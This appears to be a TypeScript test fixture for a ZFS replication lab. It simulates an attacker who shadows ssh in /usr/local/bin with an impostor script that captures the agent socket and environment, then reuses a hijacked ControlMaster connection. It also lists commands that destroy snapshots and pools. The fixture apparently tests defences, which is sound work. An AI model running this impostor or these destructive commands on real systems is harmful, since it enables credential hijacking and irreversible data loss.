import type { ApplianceHandle } from '../lab.ts'

/** What root on the source can put in the way of `ssh`: our scripts look in /usr/local/bin first, as any login does. */
const IMPOSTOR = `#!/bin/bash
# Uses the one signature that our agent gives for a connection of its own, and keeps that open.
evil=/root/evil
mkdir -p $evil
printf '%s' "$SSH_AUTH_SOCK" > $evil/socket
printf '%s' "\${@: -1}" > $evil/request
env > $evil/environment
exec 9<&0
/usr/bin/ssh -o ControlMaster=yes -o ControlPath=$evil/way -o ControlPersist=yes "\${@:1:$#-1}" 'zfx-receive check' </dev/null >$evil/check 2>&1 9<&-
touch $evil/ready
while [ ! -e $evil/go ]; do sleep 0.2; done
exec /usr/bin/ssh -o ControlMaster=no -o ControlPath=$evil/way "$@" <&9
`

/** The real one: the other name leads to the impostor. */
const SSH = '/usr/bin/ssh'
const TARGET = 'root@10.77.0.2'
const quiet =
  '-F /dev/null -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR'

/** A root shell on the source appliance, in the hands of somebody else. */
export class Attacker {
  readonly #host: ApplianceHandle

  constructor(host: ApplianceHandle) {
    this.#host = host
  }

  async lieInWait(): Promise<void> {
    await this.#host.mustRun(
      `rm -rf /root/evil; mkdir -p /root/evil; cat > /usr/local/bin/ssh <<'END'\n${IMPOSTOR}END\nchmod 755 /usr/local/bin/ssh; touch /root/evil/start`,
    )
  }

  /** The transfer has begun and waits; a connection signed by our agent is open. */
  async caught(): Promise<void> {
    await this.#host.mustRun('for i in $(seq 300); do [ -e /root/evil/ready ] && exit; sleep 0.2; done; exit 1', {
      timeoutMs: 90_000,
    })
  }

  /** The honest stream goes on, through the attacker's connection. */
  async letGo(): Promise<void> {
    await this.#host.mustRun('rm -f /usr/local/bin/ssh; touch /root/evil/go')
  }

  async leave(): Promise<void> {
    await this.#host.run(
      `rm -f /usr/local/bin/ssh; touch /root/evil/go; ${SSH} -S /root/evil/way -O exit ${TARGET} 2>/dev/null; rm -rf /root/evil`,
    )
  }

  seen(file: 'socket' | 'request' | 'environment' | 'check'): Promise<string> {
    return this.#host.mustRun(`cat /root/evil/${file}`)
  }

  /** Over the hijacked connection. Options come before the host, the request after it. */
  over(request: string, { options = '', stdin = '/dev/null' }: { options?: string; stdin?: string } = {}) {
    const quoted = request === '' ? '' : `'${request.replaceAll("'", `'\\''`)}'`
    return this.#host.run(
      `{ ${stdin === '/dev/null' ? ':' : stdin}; } | ${SSH} ${quiet} -S /root/evil/way ${options} ${TARGET} ${quoted}`,
    )
  }

  /** With a key that an agent lends, as `user` at `host`. */
  withAgent(socket: string, user: string, host: string, request: string) {
    return this.#host.run(`SSH_AUTH_SOCK=${socket} ${SSH} ${quiet} ${user}@${host} ${request}`)
  }

  run(command: string) {
    return this.#host.run(command)
  }
}

/** Every way to lose a recovery point that a shell on the target would offer. */
export function destructive(replica: string, snapshot: string, tag: string): string[] {
  return [
    `zfs release ${tag} ${replica}@${snapshot}`,
    `zfs destroy ${replica}@${snapshot}`,
    `zfs destroy -R ${replica}`,
    `zfs rollback -r ${replica}@${snapshot}`,
    `zfs rename ${replica} ${replica}-taken`,
    `zpool destroy -f tank`,
  ]
}
